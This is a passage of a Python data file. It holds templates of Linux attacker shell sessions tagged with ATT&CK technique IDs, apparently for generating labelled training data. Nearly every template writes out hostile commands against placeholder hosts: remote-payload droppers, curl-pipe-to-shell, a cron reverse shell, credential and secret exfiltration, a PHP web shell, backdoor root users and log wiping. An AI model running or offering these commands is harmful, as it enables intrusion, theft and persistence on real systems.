"""Hand-written Linux attacker session templates for make_sessions.py: one family per template.

Each entry is (family, kind, template). `kind` sets the timing and noise (bot: sub-second gaps, no typos; human:
pauses, typos retyped, `ls` after `cd`). The template language is described in sessions_core.py; the labelling
rules (a fragment takes the label of the activity it serves) in SESSIONS.md. Every line was written for this
project from general knowledge of intrusion behaviour (honeypot botnets, cryptominer droppers, hands-on-keyboard
intrusions); none is copied from a dataset.
"""

FAMILIES = [
# --- 1. SSH/telnet botnets: fingerprint, drop, run (sub-second, scripted) ----------------------------------------
("bot-cpuinfo-dropper", "bot", """
~ T1082 :: cat /proc/cpuinfo | grep name | wc -l
~ T1082 :: uname -a
~ T1033 :: whoami
~ T1082 :: free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
T1105,T1105,T1059.004,T1059.004 :: cd {dir}; wget http://{c2}/{bin}; chmod +x {bin}; ./{bin}
?0.5 T1070.004 :: rm -rf {bin}
"""),
("bot-cpuinfo-full-fingerprint", "bot", """
T1082 :: cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
T1082 :: free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
T1082 :: ls -lh $(which ls)
T1082 :: which ls
T1082 :: crontab -l
T1082 :: w
T1082 :: uname -m
T1082 :: cat /proc/cpuinfo | grep model | grep name | wc -l
T1057 :: top
T1082 :: uname
T1082 :: uname -a
T1033 :: whoami
T1082 :: lscpu | grep Model
T1082 :: df -h | head -n 2 | awk 'FNR == 2 {print $2;}'
"""),
("bot-echo-probe-busybox", "bot", """
T1082 :: enable
T1082 :: system
T1082 :: shell
T1082 :: sh
T1059.004 :: /bin/busybox {r}
T1083 :: cat /proc/mounts; /bin/busybox {r}
T1105 :: cd {dir} || cd /var/run || cd /mnt || cd /root || cd /
T1105,T1059.004,T1059.004,T1059.004 :: wget http://{c2}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp {c2} -c get tftp1.sh
T1070.004 :: rm -rf bins.sh tftp1.sh
"""),
("bot-mirai-loader-arch", "bot", """
T1059.004 :: /bin/busybox ECCHI
T1082 :: /bin/busybox cat /proc/cpuinfo || while read i; do echo $i; done < /proc/cpuinfo
T1082 :: /bin/busybox cat /bin/echo
T1105,T1105,T1059.004,T1059.004 :: cd {dir}; /bin/busybox wget http://{c2}/{arch} -O .{r}; /bin/busybox chmod 777 .{r}; ./.{r} {arch}.ssh
T1070.004 :: rm -rf .{r}
"""),
("bot-curl-pipe-sh", "bot", """
T1033 :: id
T1082 :: uname -a
T1105,T1059.004 :: curl -s http://{c2}/{script} | sh
?0.4 T1105,T1059.004 :: wget -q -O - http://{c2}/{script} | bash
"""),
("bot-wget-curl-fallback", "bot", """
T1082 :: uname -s -v -n -r -m
T1105,T1105,T1105,T1105,T1059.004,T1059.004 :: cd {dir}; wget http://{c2}/{script} || curl -O http://{c2}/{script} || tftp {c2} -c get {script}; chmod +x {script}; sh {script}
T1070.004,T1070.004 :: rm -rf {script}; rm -rf *
"""),
("bot-fileless-python", "bot", """
T1082 :: uname -a; nproc
T1059.006 :: python3 -c "import urllib.request,os;exec(urllib.request.urlopen('http://{c2}:{port}/p').read())"
?0.5 T1059.006 :: python -c "import urllib2;exec(urllib2.urlopen('http://{c2}:{port}/p').read())"
"""),
("bot-password-change-lockout", "bot", """
T1082 :: uname -a
T1033 :: id
T1098,T1098 :: echo "{user}:{pw2}" | chpasswd
T1531,T1531 :: echo -e "{pw2}\\n{pw2}" | passwd {user}
T1098.004,T1098.004,T1098.004,T1098.004 :: rm -rf ~/.ssh; mkdir ~/.ssh; echo "{key}" >> ~/.ssh/authorized_keys; chmod -R go= ~/.ssh
"""),
("bot-ssh-key-chattr", "bot", """
T1098.004,T1098.004,T1098.004,T1098.004,T1098.004,T1098.004 :: cd ~ && rm -rf .ssh && mkdir .ssh && echo "{key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
T1222.002 :: chattr +ia ~/.ssh/authorized_keys
T1082 :: cat /proc/cpuinfo | grep name | wc -l
T1082 :: uname -a
"""),
("bot-redtail-style", "bot", """
T1033 :: whoami
T1105,T1105,T1105,T1105 :: cd {dir}; rm -rf {bin}; wget http://{c2}/{bin}.{arch} -O {bin} || curl -o {bin} http://{c2}/{bin}.{arch}
T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} ssh.{arch}
T1070.004 :: rm -rf {bin}
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "@reboot {dir}/{bin}") | crontab -
"""),
("bot-kill-competitors-miner", "bot", """
T1489,T1489,T1489,T1489,T1489 :: ps aux | grep -v grep | grep -E '«kdevtmpfsi|kinsing|xmrig|minerd»' | awk '{print $2}' | xargs kill -9
T1489,T1489 :: pkill -f «kdevtmpfsi|kinsing|xmrig|cpuminer»; pkill -f «minerd|sysupdate|networkservice»
T1685 :: chattr -i /etc/ld.so.preload
T1685 :: rm -f /etc/ld.so.preload
T1105,T1105 :: cd {dir} && curl -sL http://{c2}/{bin} -o {bin}
T1496.001,T1496.001 :: chmod +x {bin} && nohup ./{bin} -o {pool}:{poolport} -u {wallet} -p x --donate-level 1 >/dev/null 2>&1 &
"""),
("bot-xmrig-tarball", "bot", """
T1082 :: nproc
T1082 :: cat /proc/meminfo | head -n 1
T1105,T1105 :: cd {dir} && wget -q http://{c2}/xmrig-{ver}-linux-x64.tar.gz
T1140,T1140 :: tar xzf xmrig-{ver}-linux-x64.tar.gz && cd xmrig-{ver}
T1496.001 :: ./xmrig -o {pool}:{poolport} -u {wallet} -k --coin monero -B
T1070.004 :: rm -f ../xmrig-{ver}-linux-x64.tar.gz
"""),
("bot-huawei-router-probe", "bot", """
T1082 :: cat /proc/version
T1082 :: cat /proc/cpuinfo
T1016 :: cat /etc/resolv.conf
T1016 :: ifconfig
T1105,T1105,T1059.004,T1059.004 :: cd /var/tmp; tftp -g -r {arch} {c2}; chmod 777 {arch}; ./{arch} huawei
"""),
("bot-honeypot-check-echo", "bot", """
T1497.001 :: echo -e "\\x6F\\x6B"
T1497.001 :: ls -la /var/run/gcc.pid
T1497.001 :: cat /proc/1/cgroup | grep -i docker
T1082 :: uname -a
T1033 :: whoami
T1105,T1059.004 :: curl -fsSL http://{c2}/{script} | bash -s {r}
"""),
("bot-perl-ircbot", "bot", """
T1082 :: uname -a
T1105,T1105 :: cd {dir}; wget -q http://{c2}/pl.txt -O .b
T1059.004,T1059.004 :: perl .b {c2} 6667; rm -f .b
T1070.003 :: history -c
"""),
("bot-lock-competitors-passwd", "bot", """
T1033 :: id
T1136.001 :: useradd -m -p '$1$abc$xyzxyzxyzxyzxyzxyzxy' {newuser}
T1098 :: usermod -aG sudo {newuser}
T1531 :: passwd -l ubuntu
T1690,T1690 :: unset HISTFILE; export HISTFILE=/dev/null
"""),
("bot-docker-api-miner", "bot", """
T1613 :: docker ps
T1613 :: docker images
T1610 :: docker run -d --restart always --name {r} -v /:/host alpine sh -c "chroot /host sh -c 'curl -s http://{c2}/{script} | sh'"
T1613 :: docker ps -a | grep {r}
"""),
("bot-redis-cron-write", "bot", """
T1082 :: redis-cli -h 127.0.0.1 info server
T1053.003 :: redis-cli -h 127.0.0.1 config set dir /var/spool/cron/crontabs
T1053.003 :: redis-cli -h 127.0.0.1 config set dbfilename root
T1053.003 :: redis-cli -h 127.0.0.1 set x "\\n*/2 * * * * curl -fsSL http://{c2}/{script} | sh\\n"
T1053.003 :: redis-cli -h 127.0.0.1 save
"""),
("bot-tsunami-ddos", "bot", """
T1082 :: uname -a
T1105,T1105 :: cd {dir}; wget http://{c2}/{arch}
T1059.004,T1059.004 :: chmod +x {arch}; ./{arch}
T1498 :: ./{arch} -udp {c2b} 80 60
"""),
("bot-shell-busybox-tftp", "bot", """
T1059.004 :: sh
T1059.004 :: /bin/busybox TSUNAMI
T1083,T1083,T1083 :: cd /tmp || cd /var/run; ls
T1105,T1059.004,T1059.004 :: /bin/busybox tftp -r {arch} -g {c2}; /bin/busybox chmod 777 {arch}; ./{arch} telnet
T1070.004 :: /bin/busybox rm -rf {arch}
"""),
("bot-nproc-miner-config", "bot", """
T1082 :: nproc --all
T1082 :: lscpu | grep -i «mhz|model name»
T1105,T1105 :: mkdir -p {dir}/{hid} && cd {dir}/{hid}
T1105 :: curl -s -o config.json http://{c2}/config.json
T1105 :: curl -s -o {bin} http://{c2}/{bin}
T1496.001,T1496.001 :: chmod +x {bin}; ./{bin} -c config.json --threads={n} -B
T1053.003,T1053.003,T1053.003 :: (crontab -l; echo "* * * * * cd {dir}/{hid} && ./{bin} -c config.json -B") | crontab -
"""),
("bot-aws-creds-scrape", "bot", """
T1033 :: whoami
T1552.001 :: cat ~/.aws/credentials
T1552.001 :: find / -name credentials -path "*/.aws/*" 2>/dev/null
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
T1041,T1041 :: cat ~/.aws/credentials | curl -s -X POST --data-binary @- http://{c2}/up
"""),
("bot-env-secrets-grab", "bot", """
T1552.001,T1552.001 :: env | grep -iE 'key|secret|token|pass'
T1552.001 :: cat .env
T1552.001,T1552.001 :: find / -name ".env" -type f 2>/dev/null | head -n 20
T1560.001,T1041 :: tar czf - .env ~/.aws 2>/dev/null | curl -s -F f=@- http://{c2}/u
"""),
# --- 2. Hands-on-keyboard: web shell foothold to root --------------------------------------------------------------
("hok-webshell-to-root", "human", """
T1033 :: id
T1082 :: uname -a
T1083 :: pwd
T1083 :: ls -la {web}
T1552.001 :: cat {web}/wp-config.php | grep DB_
T1548.001,T1548.001 :: find / -perm -4000 -type f 2>/dev/null | head -n 30
?0.5 T1548.001 :: ls -la /usr/bin/pkexec
T1068,T1068 :: cd /tmp; wget http://{c2}/pwnkit
T1068,T1068 :: chmod +x pwnkit; ./pwnkit
T1033 :: id
T1003.008 :: cat /etc/shadow
"""),
("hok-revshell-tty-upgrade", "human", """
T1059.006 :: python3 -c 'import pty; pty.spawn("/bin/bash")'
T1059.004 :: export TERM=xterm
T1033 :: whoami
T1033 :: id
T1083 :: ls -la
T1082 :: cat /etc/issue
T1069.001 :: groups
T1548.003 :: sudo -l
?0.6 T1548.003 :: sudo -u root /usr/bin/vim -c ':!/bin/bash'
"""),
("hok-sudo-gtfobins-find", "human", """
T1033 :: id
T1548.003 :: sudo -l
T1548.003 :: sudo find . -exec /bin/sh \\; -quit
T1033 :: whoami
T1136.001 :: useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {newuser}
T1098 :: echo "{newuser}:{pw}" | chpasswd
"""),
("hok-suid-hunt-linpeas", "human", """
T1105,T1105 :: cd /dev/shm; curl -sL http://{c2}/linpeas.sh -o lp.sh
T1083 :: chmod +x lp.sh; ./lp.sh -a 2>/dev/null | tee lp.out
T1548.001 :: grep -i "suid" lp.out | head
T1548.001 :: find / -user root -perm -4000 -exec ls -ldb {} \\; 2>/dev/null
T1548.001 :: /usr/bin/find . -exec /bin/sh -p \\; -quit
T1070.004 :: rm -f lp.sh lp.out
"""),
("hok-dirtypipe-exploit", "human", """
T1082 :: uname -r
T1082 :: cat /etc/os-release | grep VERSION
T1068,T1068 :: cd /tmp && wget -q http://{c2}/dp.c
T1068,T1068 :: gcc dp.c -o dp && ./dp /usr/bin/su
T1033 :: id
T1070.004 :: rm -f dp dp.c
"""),
("hok-kernel-exploit-compile", "human", """
T1082 :: uname -a
T1082 :: cat /proc/version
T1518 :: which gcc cc python3 perl
T1068 :: cd /tmp
T1068 :: curl -O http://{c2}/{r}.c
T1068 :: gcc -o {r} {r}.c -lpthread
?0.4 T1068 :: gcc -o {r} {r}.c -lpthread -static
T1068 :: ./{r}
T1033 :: whoami
"""),
("hok-docker-group-escape", "human", """
T1033 :: id
T1069.001 :: groups
T1613 :: docker ps
T1611 :: docker run -v /:/mnt --rm -it alpine chroot /mnt sh
T1033 :: id
T1003.008 :: cat /etc/shadow
"""),
("hok-lxd-escape", "human", """
T1069.001 :: id
T1613 :: lxc image list
T1611 :: lxc init alpine {r} -c security.privileged=true
T1611 :: lxc config device add {r} host-root disk source=/ path=/mnt/root recursive=true
T1611,T1611 :: lxc start {r} && lxc exec {r} /bin/sh
T1033 :: id
"""),
("hok-writable-passwd", "human", """
T1083 :: ls -la /etc/passwd /etc/shadow
T1136.001 :: openssl passwd -1 -salt {r} {pw}
T1136.001 :: echo '{newuser}:$1${r}$Qx8eQ1:0:0:root:/root:/bin/bash' >> /etc/passwd
T1078.003@privilege-escalation :: su {newuser}
T1033 :: id
"""),
("hok-cron-path-hijack", "human", """
T1053.003 :: cat /etc/crontab
T1083 :: ls -la /etc/cron.d
T1053.003,T1053.003 :: ls -la /opt/scripts/; cat /opt/scripts/backup.sh
T1053.003@privilege-escalation :: echo 'cp /bin/bash /tmp/.b; chmod +s /tmp/.b' >> /opt/scripts/backup.sh
T1548.001 :: ls -la /tmp/.b
T1548.001 :: /tmp/.b -p
T1033 :: id
"""),
("hok-capabilities-python", "human", """
T1548 :: getcap -r / 2>/dev/null
T1548 :: /usr/bin/python3.«10|11|8» -c 'import os; os.setuid(0); os.system("/bin/bash")'
T1033 :: whoami
"""),
("hok-nfs-no-root-squash", "human", """
T1135 :: cat /etc/exports
T1135 :: showmount -e {lan}
T1548.001 :: mkdir /tmp/m && mount -t nfs {lan}:/srv/share /tmp/m
T1548.001,T1548.001 :: cp /bin/bash /tmp/m/b; chmod +s /tmp/m/b
T1548.001 :: /srv/share/b -p
"""),
# --- 3. Persistence planting --------------------------------------------------------------------------------------
("pers-systemd-service", "human", """
T1543.002 :: cd /etc/systemd/system
T1543.002 :: echo -e "[Unit]\\nDescription=Network Sync\\n[Service]\\nExecStart={dir}/{bin}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target" > netsync.service
T1543.002 :: systemctl daemon-reload
T1543.002,T1543.002 :: systemctl enable netsync.service && systemctl start netsync.service
T1543.002 :: systemctl status netsync
"""),
("pers-systemd-timer", "human", """
T1053.006 :: cat > /etc/systemd/system/{r}.timer <<< "[Timer]\\nOnCalendar=*:0/15\\n[Install]\\nWantedBy=timers.target"
T1053.006 :: systemctl daemon-reload
T1053.006 :: systemctl enable --now {r}.timer
T1053.006,T1053.006 :: systemctl list-timers | grep {r}
"""),
("pers-rc-local", "human", """
T1037.004 :: ls -la /etc/rc.local
T1037.004 :: echo "{dir}/{bin} &" >> /etc/rc.local
T1037.004 :: chmod +x /etc/rc.local
T1037.004 :: cat /etc/rc.local
"""),
("pers-bashrc-implant", "human", """
T1546.004 :: echo 'nohup {dir}/{bin} >/dev/null 2>&1 &' >> ~/.bashrc
T1546.004 :: echo "alias sudo='sudo {dir}/.s'" >> ~/.bashrc
T1546.004 :: tail -n 3 ~/.bashrc
T1070.006 :: touch -r /etc/hostname ~/.bashrc
"""),
("pers-profile-d", "human", """
T1546.004 :: echo '[ -x {dir}/{bin} ] && {dir}/{bin} &' > /etc/profile.d/{r}.sh
T1546.004 :: chmod 644 /etc/profile.d/{r}.sh
T1070.006 :: touch -r /etc/profile /etc/profile.d/{r}.sh
"""),
("pers-ssh-key-manual", "human", """
T1098.004 :: cd ~
T1098.004 :: ls -la .ssh
T1098.004,T1098.004 :: mkdir -p .ssh && chmod 700 .ssh
T1098.004 :: echo "{key}" >> .ssh/authorized_keys
T1098.004 :: chmod 600 .ssh/authorized_keys
T1098.004 :: cat .ssh/authorized_keys
"""),
("pers-backdoor-user", "human", """
T1087.001 :: cat /etc/passwd | tail -n 5
T1136.001 :: useradd -m -s /bin/bash {newuser}
T1098,T1098 :: echo "{newuser}:{pw}" | chpasswd
T1098 :: usermod -aG «sudo|wheel» {newuser}
T1098 :: echo "{newuser} ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers
T1564.002 :: usermod -d /var/lib/{newuser} {newuser}
"""),
("pers-uid0-alias-user", "human", """
T1136.001 :: useradd -o -u 0 -g 0 -s /bin/bash -d /root {newuser}
T1098 :: passwd {newuser}
T1087.001 :: grep ':0:' /etc/passwd
"""),
("pers-webshell-php", "human", """
T1505.003 :: cd {web}
T1505.003 :: echo '<?php system($_GET["c"]); ?>' > {web}/wp-content/uploads/{r}.php
T1505.003 :: chown www-data:www-data {web}/wp-content/uploads/{r}.php
T1070.006 :: touch -r {web}/index.php {web}/wp-content/uploads/{r}.php
T1505.003 :: curl -s "http://127.0.0.1/wp-content/uploads/{r}.php?c=id"
"""),
("pers-ld-preload-rootkit", "human", """
T1105,T1105 :: cd /usr/local/lib && wget -q http://{c2}/lib{r}.so
T1574.006 :: echo /usr/local/lib/lib{r}.so > /etc/ld.so.preload
T1574.006 :: cat /etc/ld.so.preload
T1014 :: ls /usr/local/lib
T1057 :: ps aux | grep {bin}
"""),
("pers-kernel-module", "human", """
T1082 :: uname -r
T1547.006 :: apt-get install -y linux-headers-$(uname -r) build-essential
T1547.006 :: cd /tmp/{r} && make
T1547.006 :: insmod {r}.ko
T1547.006 :: echo {r} >> /etc/modules
T1014 :: lsmod | grep {r}
"""),
("pers-pam-backdoor", "human", """
T1556.003 :: ls -la /lib/x86_64-linux-gnu/security/pam_unix.so
T1556.003 :: cp /lib/x86_64-linux-gnu/security/pam_unix.so /var/tmp/.p
T1105,T1105 :: cd /var/tmp && wget -q http://{c2}/pam_unix.so
T1556.003 :: cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
T1070.006 :: touch -r /lib/x86_64-linux-gnu/security/pam_access.so /lib/x86_64-linux-gnu/security/pam_unix.so
"""),
("pers-cron-reverse-shell", "human", """
T1053.003 :: crontab -l
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/{c2}/{port} 0>&1'") | crontab -
T1053.003 :: crontab -l
"""),
("pers-cron-d-file", "human", """
T1053.003 :: ls /etc/cron.d/
T1053.003 :: echo "*/3 * * * * root {dir}/{bin} >/dev/null 2>&1" > /etc/cron.d/{r}
T1053.003 :: chmod 644 /etc/cron.d/{r}
T1070.006 :: touch -r /etc/cron.d/popularity-contest /etc/cron.d/{r}
"""),
("pers-motd-hook", "human", """
T1037 :: ls /etc/update-motd.d/
T1037 :: echo "{dir}/{bin} >/dev/null 2>&1 &" >> /etc/update-motd.d/00-header
"""),
("pers-git-hook", "human", """
T1083 :: find / -name "*.git" -type d 2>/dev/null | head
T1546 :: cd /srv/git/{project}.git/hooks
T1546 :: echo '#!/bin/sh' > post-receive; echo "curl -s http://{c2}/{script} | sh" >> post-receive
T1546 :: chmod +x post-receive
"""),
("pers-xdg-autostart", "human", """
T1547 :: mkdir -p ~/.config/autostart
T1547 :: echo -e "[Desktop Entry]\\nType=Application\\nName=update\\nExec={dir}/{bin}" > ~/.config/autostart/update.desktop
"""),
# --- 4. Credential access -----------------------------------------------------------------------------------------
("cred-shadow-dump-crack", "human", """
T1003.008 :: cat /etc/shadow
T1003.008 :: cat /etc/shadow | grep -v '*' | grep -v '!'
T1003.008 :: cp /etc/shadow /tmp/.s
T1003.008 :: unshadow /etc/passwd /etc/shadow > /tmp/.h
T1048.003,T1048.003 :: cat /tmp/.h | nc {c2} {port}
T1070.004 :: rm -f /tmp/.s /tmp/.h
"""),
("cred-ssh-keys-harvest", "human", """
T1552.004 :: find / -name "id_rsa*" 2>/dev/null
T1552.004,T1552.004 :: find / -name "*.pem" -o -name "*.key" 2>/dev/null | grep -v /usr/share
T1552.004 :: cat /home/*/.ssh/id_rsa
T1552.004 :: cat ~/.ssh/known_hosts
T1560.001 :: tar czf /tmp/.k.tgz /home/*/.ssh /root/.ssh
T1041 :: curl -F "f=@/tmp/.k.tgz" http://{c2}:{port}/up
"""),
("cred-history-grep", "human", """
T1552.003 :: cat ~/.bash_history
T1552.003,T1552.003 :: cat /home/*/.bash_history | grep -iE 'pass|mysql|ssh|sshpass'
T1552.003 :: grep -h "mysql -u" /root/.bash_history /home/*/.bash_history
T1552.003 :: cat ~/.mysql_history
"""),
("cred-config-grep", "human", """
T1552.001 :: grep -rni "password" /etc/*.conf 2>/dev/null
T1552.001,T1552.001 :: grep -rE "(pass|pwd|secret)\\s*=" {web} 2>/dev/null | head -n 40
T1552.001 :: cat {web}/.env
T1552.001 :: cat /var/lib/jenkins/credentials.xml
T1552.001 :: find / -name "*.kdbx" 2>/dev/null
"""),
("cred-mysql-dump-users", "human", """
T1552.001 :: cat {web}/wp-config.php
T1005 :: mysql -u {dbuser} -p'{pw}' -e "show databases;"
T1005 :: mysql -u {dbuser} -p'{pw}' {db} -e "select user_login,user_pass from wp_users;"
T1074.001 :: mysqldump -u {dbuser} -p'{pw}' {db} > /tmp/.{db}.sql
T1560.001 :: gzip /tmp/.{db}.sql
"""),
("cred-proc-memory", "human", """
T1057,T1057 :: ps aux | grep -i «sshd|ssh-agent|gnome-keyring»
T1003.007 :: cat /proc/{pid}/maps | grep heap
T1003.007 :: dd if=/proc/{pid}/mem bs=1 skip=$((0x55d1a2000000)) count=$((0x21000)) of=/tmp/.m 2>/dev/null
T1003.007,T1003.007 :: strings /tmp/.m | grep -i pass
"""),
("cred-sshd-strace-sniff", "human", """
T1057 :: pgrep -l sshd
T1056 :: strace -f -p $(pgrep -o sshd) -e trace=read,write -o /tmp/.st 2>/dev/null &
T1056 :: grep -a 'read(6' /tmp/.st | tail -n 20
"""),
("cred-tcpdump-sniff", "human", """
T1016 :: ip a
T1040 :: tcpdump -i {iface} -nn -s0 -w /dev/shm/.p port 21 or port 23 or port 110
T1040,T1040 :: tcpdump -A -r /dev/shm/.p | grep -iE 'user|pass'
T1070.004 :: rm /dev/shm/.p
"""),
("cred-ssh-brute-internal", "human", """
T1018 :: arp -a
T1046 :: nmap -p22 --open {net} -oG - | grep open
T1105 :: wget -q http://{c2}/users.txt http://{c2}/pass.txt
T1110.001 :: hydra -L users.txt -P pass.txt -t 4 ssh://{lan}
T1110.003 :: for h in $(cat hosts); do sshpass -p '{pw}' ssh -o StrictHostKeyChecking=no root@$h id; done
"""),
("cred-pam-keylog-alias", "human", """
T1056.001 :: echo 'alias sudo="read -sp \\"[sudo] password for $USER: \\" p; echo; echo $p >> /tmp/.sp; /usr/bin/sudo"' >> ~/.bashrc
T1056.001 :: cat /tmp/.sp
"""),
("cred-browser-firefox", "human", """
T1217 :: ls ~/.mozilla/firefox/
T1555.003 :: find ~/.mozilla -name "logins.json" -o -name "key4.db"
T1555.003 :: cp ~/.mozilla/firefox/*.default-release/{logins.json,key4.db} /tmp/.ff/
T1217 :: ls ~/.config/google-chrome/Default/
T1555.003 :: cp "~/.config/google-chrome/Default/Login Data" /tmp/.ff/
"""),
("cred-kube-token", "human", """
T1552.001 :: cat ~/.kube/config
T1552.007 :: cat /var/run/secrets/kubernetes.io/serviceaccount/token
T1613 :: kubectl get pods --all-namespaces
T1552.007 :: kubectl get secrets -A -o yaml
"""),
("cred-docker-config", "human", """
T1552.001 :: cat ~/.docker/config.json
T1552.001,T1552.001 :: cat ~/.docker/config.json | base64 -d
T1552.001 :: cat ~/.git-credentials
T1552.001 :: cat ~/.netrc
"""),
# --- 5. Discovery sweeps (hands-on) -------------------------------------------------------------------------------
("disc-first-look", "human", """
T1033 :: w
T1033 :: id
T1082 :: hostname
T1082 :: uname -a
T1016 :: ip a
T1016 :: ip route
T1049 :: netstat -antp
T1057 :: ps -ef
T1083 :: ls -la /home
"""),
("disc-network-map", "human", """
T1016 :: ifconfig -a
T1016 :: cat /etc/resolv.conf
T1018 :: cat /etc/hosts
T1018 :: arp -n
T1049 :: ss -tulpn
T1018 :: ip neigh
T1046 :: for p in 22 80 443 3306 5432 6379; do (echo > /dev/tcp/{lan}/$p) 2>/dev/null && echo "$p open"; done
"""),
("disc-pingsweep-loop", "human", """
T1016 :: ip -4 addr show {iface}
T1018 :: for i in $(seq 1 254); do ping -c1 -W1 {sub}.$i | grep "bytes from" & done
T1018 :: arp -a
"""),
("disc-nmap-internal", "human", """
T1518 :: which nmap
T1105,T1105 :: cd /tmp; wget http://{c2}/nmap
T1046,T1046 :: chmod +x nmap; ./nmap -sS -T4 {net}
T1046 :: ./nmap -sV -p 22,80,443,3306,6379,9200,27017 {lan}
"""),
("disc-container-check", "human", """
T1497.001 :: cat /proc/1/cgroup
T1497.001 :: ls -la /.dockerenv
T1613 :: mount | grep docker
T1613 :: env | grep -i kube
T1082 :: cat /proc/self/status | grep Cap
"""),
("disc-cloud-metadata", "human", """
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/«ec2-role|app-role|default»
T1580 :: aws ec2 describe-instances --region «us-east-1|eu-west-1»
T1580 :: aws s3 ls
"""),
("disc-gcp-metadata", "human", """
T1552.005 :: curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/
T1552.005 :: curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
T1580 :: gcloud compute instances list
T1526 :: gcloud projects list
"""),
("disc-security-tools", "human", """
T1518.001,T1518.001 :: ps aux | grep -iE 'falcon|osquery|wazuh|ossec|auditd|clamav|sysdig'
T1518.001 :: systemctl list-units --type=service | grep -iE 'audit|falcon|wazuh'
T1518.001 :: ls /opt
T1518.001 :: cat /etc/audit/audit.rules
"""),
("disc-software-inventory", "human", """
T1518 :: dpkg -l | grep -iE 'mysql|postgres|apache|nginx|docker'
T1518 :: rpm -qa | grep -i «kernel|openssl»
T1518 :: which python python3 perl gcc nc wget curl socat
T1007 :: systemctl list-units --type=service --state=running
"""),
("disc-users-groups", "human", """
T1087.001 :: cat /etc/passwd
T1087.001 :: cat /etc/passwd | grep -v nologin | cut -d: -f1
T1069.001 :: cat /etc/group | grep -E 'sudo|wheel|docker|adm'
T1033 :: last -n 20
T1033 :: lastlog | grep -v Never
"""),
("disc-file-hunt", "human", """
T1083 :: ls -la /root
T1083 :: find /home -type f -name "*.txt" -o -name "*.pdf" -o -name "*.xlsx" 2>/dev/null
T1083 :: find / -mtime -2 -type f 2>/dev/null | grep -v /proc | head -n 50
T1083 :: du -sh /var/www/* /srv/* /opt/* 2>/dev/null
"""),
("disc-time-locale", "human", """
T1124 :: date
T1124 :: timedatectl
T1614 :: cat /etc/timezone
T1614.001 :: locale
T1082 :: uptime
"""),
("disc-hw-vm-check", "human", """
T1497.001 :: dmidecode -s system-product-name
T1497.001,T1497.001 :: cat /sys/class/dmi/id/product_name; cat /sys/class/dmi/id/sys_vendor
T1497.001,T1497.001 :: lspci | grep -i «vmware|virtualbox|qemu»
T1082 :: lsblk
T1082 :: df -h
"""),
# --- 6. Defense evasion and clean-up ------------------------------------------------------------------------------
("evade-history-off", "human", """
T1690 :: unset HISTFILE
T1690 :: export HISTSIZE=0
T1690 :: set +o history
T1033 :: id
T1070.003 :: history -c
"""),
("evade-log-wipe", "human", """
T1685.006 :: echo > /var/log/auth.log
T1685.006 :: echo > /var/log/syslog
T1685.006,T1685.006 :: cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/btmp
T1685.006 :: rm -f /var/log/secure*
T1685.006 :: journalctl --rotate && journalctl --vacuum-time=1s
T1070.003,T1070.003 :: history -c && rm -f ~/.bash_history
"""),
("evade-sed-logs", "human", """
T1685.006 :: sed -i '/{c2}/d' /var/log/auth.log
T1685.006,T1685.006 :: grep -v {c2} /var/log/nginx/access.log > /tmp/.a; mv /tmp/.a /var/log/nginx/access.log
T1070.006 :: touch -r /var/log/syslog /var/log/auth.log
"""),
("evade-disable-auditd", "human", """
T1685.004 :: service auditd stop
T1685.004 :: auditctl -D
T1685.004 :: auditctl -e 0
T1685 :: systemctl stop «falcon-sensor|wazuh-agent|osqueryd»
T1685 :: systemctl disable «falcon-sensor|wazuh-agent|osqueryd»
"""),
("evade-firewall-off", "human", """
T1686 :: iptables -L -n
T1686 :: iptables -F
T1686 :: ufw disable
T1686,T1686 :: systemctl stop firewalld; systemctl disable firewalld
"""),
("evade-selinux-apparmor", "human", """
T1685 :: getenforce
T1685 :: setenforce 0
T1685 :: sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config
T1685 :: systemctl stop apparmor
"""),
("evade-hide-and-masquerade", "human", """
T1564.001 :: mkdir -p /usr/lib/{hid}
T1036.005 :: cp {dir}/{bin} /usr/lib/{hid}/«systemd-udevd|kworker|dbus-daemon»
T1564.001 :: ls -la /usr/lib/{hid}
T1070.006 :: touch -d "2021-03-04 10:12" /usr/lib/{hid}
T1070.004 :: rm -f {dir}/{bin}
"""),
("evade-base64-stager", "human", """
T1140,T1140 :: echo {r2}Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d
T1140,T1140,T1059.004 :: echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d | bash
"""),
("evade-timestomp-cleanup", "human", """
T1070.006 :: touch -r /bin/ls {dir}/{bin}
T1070.004 :: shred -u /tmp/.{r}
T1070.004 :: rm -rf /tmp/.* 2>/dev/null
T1070.003 :: history -c
"""),
("evade-chattr-lock", "human", """
T1222.002 :: chattr +i {dir}/{bin}
T1222.002 :: chattr +i /etc/cron.d/{r}
T1222.002 :: lsattr {dir}/{bin}
"""),
("evade-kill-monitoring", "human", """
T1057 :: ps aux | grep -iE "aliyun|qcloud|bcm-agent|cloudmonitor"
T1685 :: systemctl stop aliyun.service
T1685 :: /usr/local/qcloud/stargate/admin/uninstall.sh
T1685 :: rm -rf /usr/local/aegis
T1685,T1685 :: pkill -f aegis; pkill -f AliYunDun
"""),
# --- 7. Collection, staging and exfiltration ---------------------------------------------------------------------
("coll-home-archive-scp", "human", """
